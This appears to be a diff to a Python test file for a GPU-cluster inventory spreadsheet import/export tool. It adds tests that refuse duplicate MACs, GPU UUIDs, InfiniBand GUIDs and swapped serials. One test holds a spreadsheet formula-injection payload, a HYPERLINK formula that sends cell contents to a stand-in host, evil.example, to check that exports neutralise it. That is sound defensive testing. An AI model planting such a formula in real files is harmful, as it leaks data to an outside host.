@@ -1,6 +1,7 @@
 """Inventory spreadsheets: every problem reported with sheet, row and column, all or nothing,
 re-import changes nothing, export → import → export is identical, and the operator pages."""
 
+import csv
 import io
 import zipfile
 
@@ -234,6 +235,76 @@ def test_given_a_value_that_belongs_to_an_object_outside_the_file_then_it_is_a_c
     assert report.problems[0].reason == ("already used by node 'gpu01', which is not in this file")
 
 
+NEW_NODE = ["SN3", "gpu03", "dc1", "", "", 1, "Supermicro", "SYS-821", "hgx-h100-8", "10.0.0.3"]
+
+
+@pytest.mark.parametrize("dry_run", [True, False])
+@pytest.mark.parametrize(
+    ("node", "name"), [("gpu03", "eth1"), ("gpu01", "eth1")], ids=["new-node", "same-node"]
+)
+def test_given_the_mac_of_an_infiniband_nic_on_another_interface_then_the_row_is_refused(
+    dry_run, node, name
+):
+    run_import(GOOD)
+    ibp0 = NetworkInterface.objects.get(mac="aa:bb:cc:00:00:01")
+    records = ChangeRecord.objects.count()
+    sheets = {
+        "nodes": [GOOD["nodes"][0], NEW_NODE],
+        "nics": [GOOD["nics"][0], ["aa:bb:cc:00:00:01", node, name, "ethernet", 100, "", "", ""]],
+    }
+
+    report = run_import(sheets, dry_run=dry_run)
+
+    assert not report.applied
+    assert [str(p) for p in report.problems] == [
+        "nics, row 2, mac: aa:bb:cc:00:00:01 already belongs to gpu01 ibp0"
+    ]
+    assert (
+        NetworkInterface.objects.get(pk=ibp0.pk).node.name,
+        NetworkInterface.objects.get(pk=ibp0.pk).kind,
+    ) == ("gpu01", "infiniband")
+    assert not Node.objects.filter(name="gpu03").exists()
+    assert ChangeRecord.objects.count() == records
+
+
+def test_given_a_gpu_uuid_or_an_infiniband_guid_on_another_node_then_each_row_is_refused():
+    run_import(GOOD)
+    uuid = GOOD["gpus"][1][0]
+    sheets = {
+        "nodes": [GOOD["nodes"][0], NEW_NODE],
+        "gpus": [GOOD["gpus"][0], [uuid, "gpu03", 0, "H100", 81559, "00:18.0", ""]],
+        "nics": [
+            GOOD["nics"][0],
+            ["aa:bb:cc:00:00:31", "gpu03", "ibp0", "infiniband", 400, "b8ce:f603:0000:0001", 0, ""],
+        ],
+    }
+
+    report = run_import(sheets)
+
+    assert {(p.sheet, p.row, p.column): p.reason for p in report.problems} == {
+        ("gpus", 2, "uuid"): f"{uuid} already belongs to gpu01 GPU0",
+        ("nics", 2, "ib_guid"): "b8ce:f603:0000:0001 already belongs to gpu01 ibp0",
+    }
+    assert not report.applied and not Node.objects.filter(name="gpu03").exists()
+
+
+def test_given_two_gpus_that_swap_serials_in_one_file_then_both_rows_are_refused():
+    with_serials = [[*GOOD["gpus"][0], "serial"]] + [
+        [*row, f"GS{i}"] for i, row in enumerate(GOOD["gpus"][1:], start=1)
+    ]
+    assert run_import(edited(gpus=with_serials)).ok
+    swapped = [list(row) for row in with_serials]
+    swapped[1][-1], swapped[2][-1] = "GS2", "GS1"
+
+    report = run_import(edited(gpus=swapped))
+
+    assert [str(p) for p in report.problems] == [
+        "gpus, row 2, serial: GS2 already belongs to gpu01 GPU1",
+        "gpus, row 3, serial: GS1 already belongs to gpu01 GPU0",
+    ]
+    assert GPU.objects.get(index=0, node__name="gpu01").serial == "GS1"
+
+
 def test_given_rows_the_database_refuses_when_imported_then_everything_rolls_back():
     # Overlapping rack units pass the row checks; the exclusion constraint refuses them.
     clash = edited()
@@ -329,6 +400,38 @@ def test_given_an_export_when_imported_into_an_empty_database_then_it_exports_id
     assert inventory_import(sheets=read_upload(zipped, filename="a.zip"), actor=Actor.system()).ok
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_given_text_that_is_a_formula_when_exported_then_no_file_carries_a_live_formula():
+    Site.objects.create(name="dc1", region="@eu-west", description=HYPERLINK)
+
+    xlsx, template = (exporter.xlsx_bytes(), exporter.template_bytes())
+    sites_csv = exporter.csv_bytes("sites")
+
+    books = [load_workbook(io.BytesIO(data)) for data in (xlsx, template)]
+    cells = [c for book in books for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    description = books[0]["sites"]["C2"]
+    assert (description.value, description.data_type) == (HYPERLINK, "s")
+    assert list(csv.reader(io.StringIO(sites_csv.decode()))) == [
+        ["name", "region", "description"],
+        ["dc1", "'@eu-west", "'" + HYPERLINK],
+    ]
+    zipped = zipfile.ZipFile(io.BytesIO(exporter.csv_zip_bytes()))
+    assert zipped.read("sites.csv") == sites_csv
+    # Our own import reads the original text back from either file.
+    _clear_inventory()
+    sheets = [read_csv(sites_csv, filename="sites.csv")]
+    assert inventory_import(sheets=sheets, actor=Actor.system()).ok
+    assert exporter.csv_bytes("sites") == sites_csv
+    site = Site.objects.get()
+    assert (site.region, site.description) == ("@eu-west", HYPERLINK)
+    _clear_inventory()
+    assert inventory_import(sheets=read_xlsx(xlsx), actor=Actor.system()).ok
+    assert Site.objects.get().description == HYPERLINK
+
+
 # --- pages and commands --------------------------------------------------------------------------
 
 
@@ -344,9 +447,9 @@ def test_given_an_operator_when_downloading_the_template_then_it_has_headers_onl
     assert response.status_code == 200
     assert response["Content-Disposition"] == 'attachment; filename="inventory-template.xlsx"'
     cells = _cells(response.content)
-    assert list(cells) == [*GOOD, "about"]
+    assert list(cells) == [*GOOD, "bmcs", "about"]
     assert cells["nodes"] == [tuple(exporter.KINDS["nodes"].headers)]
-    assert cells["about"][1 + 3 + 4 + 15 + 10][:3] == ("nics", "mac", "yes")
+    assert cells["about"][1 + 3 + 4 + 14 + 10][:3] == ("nics", "mac", "yes")
 
 
 def test_given_an_operator_when_uploading_then_a_dry_run_reports_and_a_real_run_imports(operator):
@@ -403,6 +506,6 @@ def test_given_a_bad_file_when_the_command_imports_then_it_prints_the_problems_a
 
     call_command("inventory_export", str(tmp_path / "all.zip"), "--format", "csv")
     names = zipfile.ZipFile(tmp_path / "all.zip").namelist()
-    assert names == [f"{kind}.csv" for kind in GOOD]
+    assert names == [f"{kind}.csv" for kind in [*GOOD, "bmcs"]]
     call_command("inventory_export", str(tmp_path / "all.xlsx"))
     assert _cells((tmp_path / "all.xlsx").read_bytes())["nodes"][1][0] == "SN1"
